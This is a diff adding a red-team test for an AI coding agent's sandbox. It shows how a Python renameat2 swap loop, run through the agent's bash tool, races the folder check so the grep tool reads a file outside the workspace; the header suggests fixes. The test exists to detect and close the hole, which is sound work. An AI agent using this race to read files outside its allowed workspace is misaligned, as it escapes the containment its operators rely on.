@@ -1,0 +1,70 @@
+/**
+ * Red team (issue 19), HOLE: grep (through ripgrep, the default engine) reads files outside the workspace when a
+ * folder is swapped for a symlink to outside while it runs. Through the built binary (default sandbox, allow-all).
+ *
+ * Sandboxed bash runs a swapper (python3 ctypes `renameat2(RENAME_EXCHANGE)` in a loop) exchanging the real folder
+ * `d` with a symlink `l` → a folder outside the workspace holding a file of the same name. Meanwhile, from another
+ * process, `grep {"pattern":"line","path":"d"}` (and `grep {"pattern":"line"}` at the root): the jail checks `d`,
+ * then rg opens `d/f1.txt` by path (an explicit path argument is followed even when it is a symlink, and files are
+ * opened by path while walking), and the `lstat` check afterwards sees the real folder again. Seen: about 1 call in 7
+ * printed `d/f1.txt:1:OUTSIDECANARY…`, the outside file's line.
+ *
+ * GrepRipgrep.ts's header calls this an accepted residual race; it breaks invariant 2 (nothing outside the workspace
+ * is read) and, with a symlink to a folder whose files are named innocently, invariant 1 for content outside.
+ *
+ * Suggested fix: src/tools/GrepRipgrep.ts: run rg inside the read-only sandbox (the same profile as git's reads: a
+ * swap then points at a path that does not exist in the sandbox, or at a masked one), or give rg the folder as
+ * `/proc/self/fd/<dirfd>` of a descriptor opened beneath the workspace with O_NOFOLLOW (and still check each file
+ * by descriptor identity), or fall back to grep's own descriptor-based walk (MINICODE_GREP=node).
+ */
+import { spawn } from "node:child_process"
+import * as fs from "node:fs"
+import * as path from "node:path"
+import { describe, expect, it } from "vitest"
+import { attackFile, attackWorkspace } from "./support/Attack.js"
+import { bin } from "../serve/support/McpServeHarness.js"
+import { title, unavailable } from "../support/Sandbox.js"
+
+const canary = "OUTSIDECANARY"
+const cleanups = attackFile()
+
+/** Exchanges `d` (a real folder) and `l` (a symlink to argv[1]) for argv[2] seconds, and leaves `d` real. */
+const swapper = `import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+if not os.path.lexists("l"): os.symlink(sys.argv[1], "l")
+end = time.time() + float(sys.argv[2])
+while time.time() < end and not os.path.exists("stop"):
+    libc.renameat2(-100, b"d", -100, b"l", 2)
+if os.path.islink("d"): libc.renameat2(-100, b"d", -100, b"l", 2)
+print("swapped")
+`
+
+describe.skipIf(unavailable !== undefined)(title("HOLE: grep while bash swaps a folder for a symlink outside"), () => {
+  it("no grep output shows the outside file's content", async () => {
+    const { root, parent, tool } = attackWorkspace(cleanups)
+    const outside = path.join(parent, "outdir")
+    fs.mkdirSync(outside)
+    fs.writeFileSync(path.join(outside, "f1.txt"), `${canary} line\n`)
+    fs.mkdirSync(path.join(root, "d"))
+    fs.writeFileSync(path.join(root, "d/f1.txt"), "inside line\n")
+    // Honest first: grep finds the workspace line.
+    expect(tool("grep", { pattern: "line", path: "d" }).stdout).toContain("inside line")
+    expect(tool("write_file", { path: "swap.py", content: swapper }).status).toBe(0)
+    const args = ["tool", "bash", JSON.stringify({ command: `python3 swap.py ${outside} 60`, timeout_ms: 90_000 }), "--cwd", root, "--work-mode", "BUILD", "--policy", "allow-all", "--json"]
+    const child = spawn(process.execPath, [bin, ...args], { stdio: "ignore" })
+    const done = new Promise((resolve) => child.on("exit", resolve))
+    cleanups.push(() => child.kill())
+    // The swapper has started once its symlink exists.
+    for (let i = 0; i < 200 && fs.lstatSync(path.join(root, "l"), { throwIfNoEntry: false }) === undefined; i++) await new Promise((r) => setTimeout(r, 50))
+    const leaks: Array<string> = []
+    for (let i = 0; i < 40 && leaks.length === 0; i++) {
+      for (const args of [{ pattern: "line", path: "d" }, { pattern: "line" }]) {
+        const r = tool("grep", args)
+        if ((r.stdout + r.stderr).includes(canary)) leaks.push(`${JSON.stringify(args)} → ${r.stdout}`)
+      }
+    }
+    fs.writeFileSync(path.join(root, "stop"), "")
+    await done
+    expect(leaks).toEqual([])
+  }, 120_000)
+})
